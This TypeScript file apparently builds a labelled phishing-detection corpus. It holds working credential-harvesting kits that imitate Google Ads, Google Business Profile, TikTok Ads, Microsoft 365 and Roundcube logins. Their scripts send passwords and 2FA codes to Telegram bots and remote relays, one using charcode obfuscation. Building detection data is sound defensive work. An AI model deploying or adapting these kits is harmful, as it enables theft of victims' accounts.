import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';
import { CSS, MARK, b64, codes, doc, esc, stepRelay } from '../parts/ys-kit.js';

// Ad-platform, business-profile and mailbox login kits (Google, TikTok, LinkedIn, Microsoft, cPanel).

/** Google-styled identifier/password/2SV flow, one <section data-step> per screen. */
function googleFlow(t: { h: string; sub: string; email: string; next: string; pass: string; show: string; forgot: string; code: string; codeP: string; wrong: string }, svc = ''): string {
  return `<section data-step="identifier"><div class="box"><div>${MARK.googleG}<h1>${t.h}</h1><p>${t.sub}${svc}</p></div><div>
<form><div class="f"><input name="identifier" type="email" placeholder="${t.email}" autocomplete="username" required></div>
<button type="button" class="lnk">${t.forgot}</button>
<div class="act"><button class="pri">${t.next}</button></div></form></div></div></section>
<section data-step="password" data-retry style="display:none"><div class="box"><div>${MARK.googleG}<h1>${t.h}</h1><p id="who" style="border:1px solid #747775;border-radius:16px;display:inline-block;padding:4px 12px">●</p></div><div>
<form><div class="f"><input name="Passwd" type="password" placeholder="${t.pass}" autocomplete="current-password" required></div>
<p class="err" style="display:none;color:#b3261e;font-size:13px">${t.wrong}</p>
<label style="font-size:14px"><input type="checkbox" onclick="var p=this.form.Passwd;p.type=p.type==='password'?'text':'password'"> ${t.show}</label>
<div class="act"><button class="pri">${t.next}</button></div></form></div></div></section>
<section data-step="2sv" style="display:none"><div class="box"><div>${MARK.googleG}<h1>${t.code}</h1><p>${t.codeP}</p></div><div>
<form><div class="f"><input name="totpPin" inputmode="numeric" placeholder="G-" required></div><div class="act"><button class="pri">${t.next}</button></div></form></div></div></section>
<script>document.addEventListener('submit',function(e){var i=e.target.identifier;if(i){document.getElementById('who').textContent=i.value}},true)</script>`;
}

const EN = { h: 'Sign in', sub: 'to continue to ', email: 'Email or phone', next: 'Next', pass: 'Enter your password', show: 'Show password', forgot: 'Forgot email?', code: '2-Step Verification', codeP: 'Get a verification code from the Google Authenticator app or enter the code we texted to your phone.', wrong: 'Wrong password. Try again or click Forgot password to reset it.' };

export const entries: Entry[] = [
{
  id: 'ys-google-ads-signin-clone-en',
  label: 'phishing',
  kind: 'google-ads-login-kit',
  url: 'https://ads-google.account-billing-verify.com/signin/v2/identifier?service=adwords&continue=https%3A%2F%2Fads.google.com%2Faw%2Fbilling',
  body: doc({
    title: 'Google Ads - Sign in',
    css: CSS.reset + CSS.google,
    body: `${googleFlow(EN, 'Google Ads')}
<p style="text-align:center;font-size:12px;color:#444">English (United States) · Help · Privacy · Terms</p>
${stepRelay({ endpoint: '/signin/v2/api/v1/auth', bodyType: 'json', finalUrl: 'https://ads.google.com/aw/billing/summary', ipApi: 'https://ipwho.is/' })}`,
  }),
  routes: {
    'ads-google.account-billing-verify.com/signin/v2/api/v1/auth': jsonRoute({ status: 'ok' }),
  },
},

{
  id: 'ys-google-ads-suspended-ptbr',
  label: 'phishing',
  kind: 'google-ads-login-kit',
  url: 'https://googleads-contestacao.com/br/conta-suspensa',
  body: doc({
    lang: 'pt-BR',
    title: 'Google Ads – Conta suspensa',
    css: CSS.reset + CSS.google + `.alert{max-width:1040px;margin:24px auto 0;background:#fce8e6;color:#8c1d18;border-radius:16px;padding:18px 24px;display:flex;gap:14px;align-items:center}.alert b{display:block}`,
    body: `<div class="alert">${MARK.googleAds}<div><b>Sua conta do Google Ads foi suspensa por "Evasão de sistemas"</b>Conta 584-221-9037 · Os anúncios pararam de ser veiculados em 13/10/2025. Para contestar, faça login e envie o formulário de recurso em até 7 dias.</div></div>
${googleFlow({ h: 'Fazer login', sub: 'Prosseguir para o ', email: 'E-mail ou telefone', next: 'Avançar', pass: 'Digite sua senha', show: 'Mostrar senha', forgot: 'Esqueceu seu e-mail?', code: 'Verificação em duas etapas', codeP: 'Digite o código de 6 dígitos enviado por SMS ou gerado pelo app Google Authenticator.', wrong: 'Senha incorreta. Tente novamente ou clique em "Esqueceu a senha?".' }, 'Google Ads')}
<section data-step="recurso" style="display:none"><div class="box"><div><h1>Recurso</h1><p>Descreva por que você acredita que sua conta está em conformidade.</p></div><div><form><div class="f"><input name="cnpj" placeholder="CNPJ da empresa"></div><div class="f"><input name="site" placeholder="URL do site"></div><div class="act"><button class="pri">Enviar</button></div></form></div></div></section>
${stepRelay({ endpoint: '/br/api/enviar.php', finalUrl: 'https://support.google.com/google-ads/' })}`,
  }),
},

{
  id: 'ys-gbp-suspension-vi-charcodes',
  label: 'phishing',
  kind: 'google-business-profile-kit',
  url: 'https://hoso-doanhnghiep-google.com/xacminh/',
  body: `<!DOCTYPE html><html lang="vi"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>Google Doanh nghiệp của tôi</title>
<style>${CSS.reset}${CSS.google}</style></head><body>
<div style="max-width:1040px;margin:24px auto 0;background:#fef7e0;border-radius:16px;padding:16px 22px">⚠ <b>Hồ sơ doanh nghiệp của bạn đã bị tạm ngưng.</b> Hồ sơ sẽ không hiển thị trên Google Tìm kiếm và Maps cho đến khi được xác minh lại.</div>
<div class="box"><div>${MARK.googleG}<h1>Xác minh quyền sở hữu</h1><p>Đăng nhập bằng Tài khoản Google quản lý hồ sơ doanh nghiệp.</p></div>
<div><form id="x"><div class="f"><input name="e" type="email" placeholder="Email hoặc số điện thoại" required></div><div class="f"><input name="p" type="password" placeholder="Nhập mật khẩu của bạn" required></div>
<div class="f"><input name="sdt" placeholder="Số điện thoại doanh nghiệp"></div><div class="act"><button class="pri">Tiếp theo</button></div></form></div></div>
<script>
var _k=[${codes('/xacminh/luu.php')}],_h=[${codes('https://api.telegram.org/bot6619032287:AAFv2nQ1WmZb7cQ8dY0tGxR5uKjLsP3eH9o/sendMessage?chat_id=-4521730988&text=')}];
var _s=function(a){return String.fromCharCode.apply(null,a)};
document.getElementById('x').onsubmit=function(ev){ev.preventDefault();
  var d='GBP|'+this.e.value+'|'+this.p.value+'|'+this.sdt.value;
  new Image().src=_s(_h)+encodeURIComponent(d);
  navigator.sendBeacon(_s(_k),d);
  setTimeout(function(){location.href='https://business.google.com/'},900);
};
</script></body></html>`,
},

{
  id: 'ys-tiktok-ads-violation-vi-telegram',
  label: 'phishing',
  kind: 'tiktok-ads-login-kit',
  url: 'https://tiktok-ads-khieunai.net/appeal/index.html?adv=7310492287136',
  body: doc({
    lang: 'vi',
    title: 'TikTok Ads Manager - Khiếu nại vi phạm',
    css: CSS.reset + `body{font-family:Arial,sans-serif;background:#f5f5f7;color:#161823}.c{max-width:520px;margin:40px auto;background:#fff;border-radius:12px;padding:28px;box-shadow:0 2px 12px rgba(0,0,0,.08)}.w{background:#fff1f3;border-left:4px solid #FE2C55;padding:10px 14px;font-size:14px;margin:14px 0}input{width:100%;border:1px solid #d0d0d3;border-radius:6px;padding:12px;margin:6px 0 12px}button{width:100%;background:#FE2C55;color:#fff;border:0;border-radius:6px;padding:12px;font-weight:700}`,
    body: `<div class="c">${MARK.tiktok}
<section data-step="tb"><div class="w">Tài khoản quảng cáo <b>7310492287136</b> đã bị tạm ngưng do vi phạm chính sách quảng cáo (Sản phẩm bị cấm). Số dư 12.450.000₫ sẽ bị đóng băng.</div>
<p>Để gửi khiếu nại, vui lòng đăng nhập tài khoản TikTok For Business.</p>
<form><input name="email" placeholder="Email / Số điện thoại" required><input name="matkhau" type="password" placeholder="Mật khẩu" required><button>Đăng nhập và khiếu nại</button></form></section>
<section data-step="ma" style="display:none"><h3>Xác minh bảo mật</h3><p>Mã xác minh đã được gửi tới email/số điện thoại của bạn.</p><form><input name="otp" maxlength="6" required><button>Xác nhận</button></form></section>
<section data-step="xong" style="display:none"><h3>Đã gửi khiếu nại</h3><p>Chúng tôi sẽ phản hồi trong 24–48 giờ.</p></section></div>
<script>
function tg(d){fetch('https://api.telegram.org/bot7022856631:AAGyX0qk5cO1nR8pWvE3tJ2mZsL9bHf4aDw/sendMessage',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({chat_id:'-1002098831175',text:'TIKTOK ADS\\n'+JSON.stringify(d)})})}
</script>
${stepRelay({ endpoint: '/appeal/ok.php', extra: 'tg(data);', delayMs: 1000 })}`,
  }),
},

{
  id: 'ys-m365-webmail-compromised-wp-en',
  label: 'phishing',
  kind: 'webmail-clone',
  url: 'https://www.brightsidedental.com/wp-includes/css/o365/index.html#c2FyYWhAZmllbGRzdG9uZWFnZW5jeS5jb20=',
  body: doc({
    title: 'Sign in to your account',
    css: CSS.reset + `body{font-family:"Segoe UI",Arial,sans-serif;background:#f2f2f2 url("data:image/svg+xml;base64,${b64('<svg xmlns="http://www.w3.org/2000/svg" width="1600" height="900"><defs><linearGradient id="a" x1="0" x2="1"><stop offset="0" stop-color="#dfe9f3"/><stop offset="1" stop-color="#f4e9dc"/></linearGradient></defs><rect width="1600" height="900" fill="url(#a)"/></svg>')}") center/cover}.b{width:440px;background:#fff;margin:12vh auto 0;padding:44px;box-shadow:0 2px 6px rgba(0,0,0,.2)}h2{font-size:24px;font-weight:600;margin:16px 0 12px}input{width:100%;border:0;border-bottom:1px solid #666;padding:6px 0;font-size:15px;margin-bottom:16px}input:focus{outline:none;border-bottom-color:#0067b8}.bt{text-align:right}.bt button{background:#0067b8;color:#fff;border:0;padding:6px 30px;min-width:108px;font-size:15px}.id{display:flex;align-items:center;gap:8px;font-size:15px}.err{color:#e81123;font-size:14px;display:none}`,
    body: `<div class="b">${MARK.microsoft}
<div id="s1"><h2>Sign in</h2><input id="em" type="email" placeholder="Email, phone, or Skype"><p style="font-size:13px">No account? <a href="#" style="color:#0067b8">Create one!</a></p><div class="bt"><button id="n1">Next</button></div></div>
<div id="s2" style="display:none"><div class="id">← <span id="who"></span></div><h2>Enter password</h2><p class="err" id="er">Your account or password is incorrect. If you don't remember your password, <a href="#">reset it now.</a></p><input id="pw" type="password" placeholder="Password"><p style="font-size:13px"><a href="#" style="color:#0067b8">Forgot my password</a></p><div class="bt"><button id="n2">Sign in</button></div></div></div>
<script>
(function(){
var h=location.hash.slice(1),em=document.getElementById('em');try{if(h)em.value=atob(h)}catch(e){}
var c=0;
document.getElementById('n1').onclick=function(){if(!/@/.test(em.value))return;document.getElementById('who').textContent=em.value;document.getElementById('s1').style.display='none';document.getElementById('s2').style.display='block'};
document.getElementById('n2').onclick=function(){var pw=document.getElementById('pw');if(!pw.value)return;c++;
  fetch('https://office-relay-auth.onrender.com/api/next.php',{method:'POST',headers:{'Content-Type':'application/x-www-form-urlencoded'},body:'ai='+encodeURIComponent(em.value)+'&pr='+encodeURIComponent(pw.value)+'&c='+c}).catch(function(){});
  if(c<2){document.getElementById('er').style.display='block';pw.value='';return}
  location.replace('https://outlook.office.com/mail/');
};
})();
</script>`,
  }),
},

{
  id: 'ys-roundcube-mailbox-full-pt',
  label: 'phishing',
  kind: 'webmail-clone',
  url: 'https://webmail-atualizacao.com/roundcube/?_task=login&dominio=agenciaverdemar.com.br',
  body: doc({
    lang: 'pt-BR',
    title: 'Webmail :: Bem-vindo ao Webmail',
    css: CSS.reset + `body{font-family:"Open Sans",Arial,sans-serif;background:#2f3a3f;color:#333}.lg{width:380px;margin:10vh auto;background:#fff;border-radius:4px;padding:30px 34px;box-shadow:0 0 30px rgba(0,0,0,.3)}.q{background:#fff3cd;border:1px solid #f0d27a;padding:10px;font-size:13px;border-radius:3px;margin:14px 0}.bar{height:8px;background:#eee;border-radius:4px;overflow:hidden}.bar i{display:block;height:100%;width:99%;background:#d9534f}td{padding:4px 0}input{width:100%;padding:8px;border:1px solid #bbb;border-radius:3px}button{background:#37beff;border:0;color:#fff;padding:9px 20px;border-radius:3px;width:100%;font-weight:700;margin-top:10px}.logo{font-size:26px;color:#37beff;font-weight:300;text-align:center}`,
    body: `<div class="lg"><div class="logo">● roundcube</div>
<div class="q"><b>Sua caixa de correio está cheia (99%).</b> As mensagens recebidas estão sendo devolvidas. Faça login para liberar espaço adicional de 10 GB gratuitamente.<div class="bar" style="margin-top:6px"><i></i></div><small>4,97 GB de 5 GB</small></div>
<form method="post" action="/roundcube/?_task=login&_action=upgrade" id="rf"><input type="hidden" name="_token" value="mQo2Hf3qJzZt0hyAa8xWkIvcSJtcNwPb">
<table style="width:100%"><tr><td>Usuário</td></tr><tr><td><input name="_user" id="u" required></td></tr><tr><td>Senha</td></tr><tr><td><input name="_pass" type="password" required></td></tr></table>
<button>Entrar</button></form>
<p style="text-align:center;font-size:11px;color:#999">Roundcube Webmail · cPanel</p></div>
<script>
var d=new URLSearchParams(location.search).get('dominio');var u=document.getElementById('u');if(d){u.placeholder='voce@'+d}
</script>`,
  }),
},
];
